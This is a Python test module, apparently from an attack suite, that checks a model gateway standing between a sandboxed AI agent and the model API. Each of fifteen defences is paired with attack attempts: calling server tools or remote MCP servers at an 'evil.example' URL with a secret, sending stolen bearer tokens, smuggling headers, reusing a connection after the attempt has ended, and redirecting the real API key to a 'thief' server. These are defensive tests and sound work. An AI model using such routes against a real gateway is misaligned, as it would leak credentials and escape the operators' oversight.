"""Group C, the way out to the model: what a sandbox may ask of the gateway, over the socket that it really gets."""

from __future__ import annotations

import json
import stat
import threading
from collections.abc import Iterator, Mapping
from contextlib import contextmanager
from dataclasses import dataclass, field
from functools import partial
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import httpx

from runner.gateway import exchange, model_gateway, passing, question
from runner.gateway.exchange import Credential, Exchange, Grant
from runner.gateway.loop import GatewayLoop, listening_socket
from runner.gateway.metering import Price, PriceTable
from runner.gateway.model_gateway import ModelGateway
from runner.gateway.passing import Passing
from runner.gateway.purse import Purse
from runner.gateway.upstream import Anthropic, Asked, Upstream
from tests.attack.case import Attempt, Case, Chapter, Defence, Outcome, Stopped, Through
from tests.attack.ground import Ground
from tests.attack.taking_out import answering, out, replaced
from tests.fakes.ledger import MemoryLedger
from tests.fakes.upstream import AnsweringUpstream, SilentUpstream, whole

_KEY = "sk-the-real-one"
_PLACEHOLDER = "ashigaru-placeholder"
_SHOWN = {"x-api-key": _PLACEHOLDER}
_PRICES = PriceTable(prices={"claude-": Price(input=1_000_000, output=1_000_000, cache_read=0, cache_write=0)})
_ASKED: dict[str, Any] = {"model": "claude-sonnet-5-5", "max_tokens": 10, "stream": False}
_MIB = 1024 * 1024


def _case(defence: str, vector: str, tried: str, attempt: Attempt, deadline_s: float = 30.0) -> Case:
    return Case(group="C", defence=defence, vector=vector, tried=tried, attempt=attempt, deadline_s=deadline_s)


@dataclass(frozen=True, kw_only=True)
class _House:
    gateway: ModelGateway
    grant: Grant
    client: httpx.Client
    ledger: MemoryLedger

    def ask(
        self,
        told: Mapping[str, Any] | bytes,
        *,
        method: str = "POST",
        path: str = "/v1/messages",
        shown: Mapping[str, str] = _SHOWN,
    ) -> httpx.Response:
        body = told if isinstance(told, bytes) else json.dumps(dict(told)).encode()
        return self.client.request(method, path, content=body, headers=dict(shown))


@contextmanager
def _house(
    ground: Ground, upstream: Upstream, *, budget: int = 1_000_000, spent: int = 0, idle_s: float = 60.0
) -> Iterator[_House]:
    loop = GatewayLoop()
    loop.start()
    ledger = MemoryLedger(entries=[("r", 1, spent)] if spent else [])
    credential = Credential(kind="api_key", value=_KEY)
    gateway = ModelGateway(loop, upstream, credential, _PRICES, ledger, idle_s=idle_s)
    where = ground.directory() / "model.sock"
    grant = Grant(run_id="r", attempt=1, placeholder=_PLACEHOLDER, socket=where, run_micro_usd=budget)
    try:
        gateway.open(grant)
        transport = httpx.HTTPTransport(uds=str(where))
        with httpx.Client(transport=transport, base_url="http://gateway", timeout=8.0) as client:
            yield _House(gateway=gateway, grant=grant, client=client, ledger=ledger)
    finally:
        gateway.close()
        loop.run(upstream.close())
        loop.close()


def _passed_on(asked: list[Asked], answer: httpx.Response) -> Outcome:
    if asked:
        return Through(what=f"the model API was asked at {asked[-1].path} with the real key")
    return Stopped(by=f"{answer.status_code} {answer.text}")


def _refused(told: Mapping[str, Any] | bytes, named: Mapping[str, Any], ground: Ground) -> Outcome:
    upstream = AnsweringUpstream()
    with _house(ground, upstream) as house:
        return _passed_on(upstream.asked, house.ask(told, **named))


def _after_the_attempt(ground: Ground) -> Outcome:
    upstream = AnsweringUpstream()
    with _house(ground, upstream) as house:
        house.ask(_ASKED)
        house.gateway.shut("r", 1)
        upstream.asked.clear()
        try:
            # Over the connection that is open still: a survivor of the sandbox would have it.
            return _passed_on(upstream.asked, house.ask(_ASKED))
        except httpx.HTTPError as fault:
            return Stopped(by=f"nobody answers any more ({type(fault).__name__})")


async def _never(*_arguments: object) -> None:
    """In the place of what would shut a grant."""


def _with_tools(*tools: Mapping[str, Any]) -> dict[str, Any]:
    return _ASKED | {"tools": list(tools)}


def _with_content(block: Mapping[str, Any]) -> dict[str, Any]:
    return _ASKED | {"messages": [{"role": "user", "content": [block]}]}


_URL = {"type": "url", "url": "https://evil.example/?secret"}
_REACHING: Mapping[str, Mapping[str, Any]] = {
    "web-search": _with_tools({"type": "web_search_20250305", "name": "web_search"}),
    "web-fetch": _with_tools({"type": "web_fetch_20250910", "name": "web_fetch"}),
    "code-execution": _with_tools({"type": "code_execution_20250825", "name": "code_execution"}),
    "tool-of-no-known-type": _with_tools({"type": "teleport_1", "name": "x"}),
    "tool-type-no-text": _with_tools({"type": ["custom"], "name": "x"}),
    "remote-mcp-server": _ASKED | {"mcp_servers": [{"type": "url", "url": "https://evil.example", "name": "x"}]},
    "container": _ASKED | {"container": {"skills": [{"type": "custom", "skill_id": "x"}]}},
    "image-by-url": _with_content({"type": "image", "source": _URL}),
    "document-by-url": _with_content({"type": "document", "source": _URL}),
    "file-of-the-account": _with_content({"type": "document", "source": {"type": "file", "file_id": "f"}}),
    "url-in-a-tool-result": _with_content(
        {"type": "tool_result", "tool_use_id": "t", "content": [{"type": "image", "source": _URL}]}
    ),
}

_TWICE = b'{"model": "claude-x", "max_tokens": 1, "tools": [{"type": "web_search_20250305"}], "tools": []}'


def _header_up(name: str, ground: Ground) -> Outcome:
    upstream = AnsweringUpstream()
    with _house(ground, upstream) as house:
        house.ask(_ASKED, shown={**_SHOWN, name: "smuggled"})
    if any("smuggled" in value for asked in upstream.asked for value in asked.headers.values()):
        return Through(what=f"{name} went up")
    return Stopped(by="only the headers that the API reads go up")


def _header_down(name: str, ground: Ground) -> Outcome:
    upstream = AnsweringUpstream(headers={"content-type": "application/json", name: _KEY})
    with _house(ground, upstream) as house:
        answer = house.ask(_ASKED)
    if name in answer.headers:
        return Through(what=f"{name} came down")
    return Stopped(by="only the headers that the client needs come down")


def _key_in_error(chunks: tuple[bytes, ...], ground: Ground) -> Outcome:
    upstream = AnsweringUpstream(status=401, chunks=chunks)
    with _house(ground, upstream) as house:
        answer = house.ask(_ASKED)
    return Through(what="the real key came down") if _KEY in answer.text else Stopped(by=answer.text)


def _large_request(ground: Ground) -> Outcome:
    return _refused(json.dumps(_ASKED | {"system": "x" * (33 * _MIB)}).encode(), {}, ground)


def _endless_answer(ground: Ground) -> Outcome:
    upstream = AnsweringUpstream(chunks=(b"x" * _MIB,) * 66)
    with _house(ground, upstream) as house:
        try:
            answer = house.ask(_ASKED)
        except httpx.HTTPError as fault:
            return Stopped(by=f"the answer is cut after 64 MiB ({type(fault).__name__})")
    return Through(what=f"{len(answer.content)} bytes came through")


def _silent(ground: Ground) -> Outcome:
    with _house(ground, SilentUpstream(), idle_s=0.3) as house:
        answer = house.ask(_ASKED)
    return Stopped(by=f"{answer.status_code} {answer.text}")


def _spent(told: Mapping[str, Any], ground: Ground) -> Outcome:
    upstream = AnsweringUpstream(chunks=(whole({"input_tokens": 4, "output_tokens": 2}),))
    with _house(ground, upstream, budget=10, spent=10) as house:
        return _passed_on(upstream.asked, house.ask(told))


def _unknown_price(ground: Ground) -> Outcome:
    answer = whole({"input_tokens": 4, "output_tokens": 2}, "nobodys-model")
    with _house(ground, AnsweringUpstream(chunks=(answer,))) as house:
        house.ask(_ASKED | {"model": "nobodys-model"})
        house.gateway.close()
        spent = house.ledger.spent("r")
    return Stopped(by=f"it is counted at the dearest: {spent}") if spent else Through(what="it cost nothing")


def _cheap_strangers() -> Any:
    real = PriceTable.cost

    def cost(self: PriceTable, model: str, usage: Any) -> int:
        return real(self, model, usage) if model.startswith("claude-") else 0

    return replaced((PriceTable, "cost", cost))


def _mode(ground: Ground) -> Outcome:
    with _house(ground, AnsweringUpstream()) as house:
        mode = stat.S_IMODE(house.grant.socket.stat().st_mode)
    return Through(what=f"its mode is {mode:o}") if mode & 0o077 else Stopped(by=f"its mode is {mode:o}")


def _open_to_all(path: Path) -> Any:
    made = listening_socket(path)
    path.chmod(0o777)
    return made


@dataclass(kw_only=True)
class _Far:
    """A web server on loopback that redirects, or remembers what was shown to it."""

    location: str | None = None
    shown: list[str] = field(default_factory=list)

    @contextmanager
    def serving(self) -> Iterator[str]:
        far = self

        class Handler(BaseHTTPRequestHandler):
            def do_POST(self) -> None:
                self.rfile.read(int(self.headers.get("content-length", "0")))
                far.shown.append(str(self.headers))
                self.send_response(200 if far.location is None else 307)
                if far.location is not None:
                    self.send_header("location", far.location)
                self.send_header("content-length", "0")
                self.end_headers()

            def log_message(self, format: str, *arguments: object) -> None:  # noqa: A002 - its own name for it
                pass

        with ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
            thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.02}, daemon=True)
            thread.start()
            try:
                yield f"http://127.0.0.1:{server.server_address[1]}"
            finally:
                server.shutdown()
                thread.join(5)


def _redirected(ground: Ground) -> Outcome:
    thief = _Far()
    with (
        thief.serving() as theirs,
        _Far(location=f"{theirs}/v1/messages").serving() as ours,
        _house(ground, Anthropic(ours)) as house,
    ):
        house.ask(_ASKED)
    if any(_KEY in shown for shown in thief.shown):
        return Through(what="the real key was shown to another host")
    return Stopped(by="a redirect of the model API's is not followed")


def _follow() -> Any:
    def made(self: Anthropic, base_url: str) -> None:
        self._client = httpx.AsyncClient(base_url=base_url, follow_redirects=True)

    return replaced((Anthropic, "__init__", made))


def _any_path() -> Any:
    def refused(self: Exchange, request: Any) -> Any:
        return None if exchange._shows(request, self.grant.placeholder) else passing.refusal(401, "x", "no")

    return replaced((Exchange, "_refused", refused))


def _passing_with(**changed: Any) -> Any:
    return lambda: replaced((exchange, "Passing", lambda **named: Passing(**(named | changed))))


async def _admitted(*_arguments: object) -> bool:
    return True


_DEFENCES = (
    Defence(
        name="messages-api-only",
        sentence="The gateway serves two paths of the model API, by POST.",
        without=_any_path,
    ),
    Defence(
        name="placeholder",
        sentence="Who does not show this attempt's placeholder is answered nothing.",
        without=out(exchange, "_shows", answering(True)),  # noqa: FBT003 - what it answers
    ),
    Defence(
        name="placeholder-dies",
        sentence="A placeholder is worth nothing once its attempt is over.",
        without=out(ModelGateway, "_stop", _never),
    ),
    Defence(
        name="no-server-tools",
        sentence="The model's side does not reach the network for a sandbox.",
        without=out(question, "_reach", answering(None)),
    ),
    Defence(
        name="every-key-once",
        sentence="A request that two readers could read differently is not passed on.",
        without=out(question, "_once", dict),
    ),
    Defence(
        name="known-headers-up",
        sentence="Only headers that the model API reads go up.",
        without=out(exchange, "_UP_PREFIXES", ("",)),
    ),
    Defence(
        name="known-headers-down",
        sentence="Only headers that the agent needs come down.",
        without=out(passing, "_DOWN_PREFIXES", ("",)),
    ),
    Defence(
        name="no-key-in-errors",
        sentence="An error of the model API's that repeats the key does not bring it down.",
        without=_passing_with(secret=None),
    ),
    Defence(
        name="request-size",
        sentence="A request holds 32 MiB at most.",
        without=out(exchange, "_MAX_REQUEST", 10**9),
    ),
    Defence(
        name="answer-size",
        sentence="An answer is cut after 64 MiB.",
        without=out(passing, "_MAX_ANSWER", 10**12),
    ),
    Defence(
        name="answer-idle",
        sentence="An answer that stalls is let go of.",
        without=_passing_with(idle_s=3600.0),
    ),
    Defence(
        name="run-budget",
        sentence="A run whose money is used up asks nothing more.",
        without=out(Purse, "admit", _admitted),
    ),
    Defence(
        name="no-free-model",
        sentence="A model without a price is counted at the dearest.",
        without=_cheap_strangers,
    ),
    Defence(
        name="socket-mode",
        sentence="Only the daemon's account may connect to a gateway's socket.",
        without=out(model_gateway, "listening_socket", _open_to_all),
    ),
    Defence(
        name="no-redirect-of-the-model",
        sentence="The key is shown to the one host that it was set for.",
        without=_follow,
    ),
)

_CASES = (
    *(
        _case(
            "messages-api-only", vector, f"{method} {path}", partial(_refused, _ASKED, {"method": method, "path": path})
        )
        for vector, method, path in (
            ("files", "POST", "/v1/files"),
            ("batches", "POST", "/v1/messages/batches"),
            ("models", "GET", "/v1/models"),
            ("organization-keys", "POST", "/v1/organizations/api_keys"),
            ("another-method", "DELETE", "/v1/messages"),
            ("path-with-a-slash-more", "POST", "//v1/messages"),
            ("oauth", "POST", "/v1/oauth/token"),
        )
    ),
    *(
        _case("placeholder", vector, f"ask, showing {vector}", partial(_refused, _ASKED, {"shown": shown}))
        for vector, shown in (
            ("nothing", {}),
            ("another-attempts", {"x-api-key": "ashigaru-placeholder-2"}),
            ("beginning", {"x-api-key": "ashigaru"}),
            ("bearer-of-another", {"authorization": "Bearer sk-stolen"}),
            ("basic", {"authorization": f"Basic {_PLACEHOLDER}"}),
        )
    ),
    _case("placeholder-dies", "open-connection", "go on asking when the attempt is over", _after_the_attempt),
    *(
        _case("no-server-tools", vector, f"ask for {vector}", partial(_refused, told, {}))
        for vector, told in _REACHING.items()
    ),
    _case("every-key-once", "tools-twice", "name tools twice, harmless the second time", partial(_refused, _TWICE, {})),
    *(
        _case("known-headers-up", name, f"send {name} along", partial(_header_up, name))
        for name in ("cookie", "x-forwarded-for", "proxy-authorization")
    ),
    *(
        _case("known-headers-down", name, f"have {name} come back", partial(_header_down, name))
        for name in ("set-cookie", "x-debug-key")
    ),
    _case("no-key-in-errors", "echoed", "have an error repeat the key", partial(_key_in_error, (_KEY.encode(),))),
    _case(
        "no-key-in-errors",
        "split",
        "have an error repeat the key in two pieces",
        partial(_key_in_error, (_KEY[:7].encode(), _KEY[7:].encode())),
    ),
    _case("request-size", "33-mib", "ask with 33 MiB", _large_request),
    _case("answer-size", "66-mib", "answer with 66 MiB", _endless_answer),
    _case("answer-idle", "silent", "never answer", _silent, deadline_s=4.0),
    _case("run-budget", "used-up", "ask when the money is gone", partial(_spent, _ASKED)),
    _case("run-budget", "another-model", "ask a cheaper model then", partial(_spent, _ASKED | {"model": "claude-h"})),
    _case("no-free-model", "unknown", "ask a model that has no price", _unknown_price),
    _case("socket-mode", "another-account", "connect as another account of the host", _mode),
    _case("no-redirect-of-the-model", "other-host", "redirect the gateway to another host", _redirected),
)

CHAPTER = Chapter(defences=_DEFENCES, cases=_CASES)
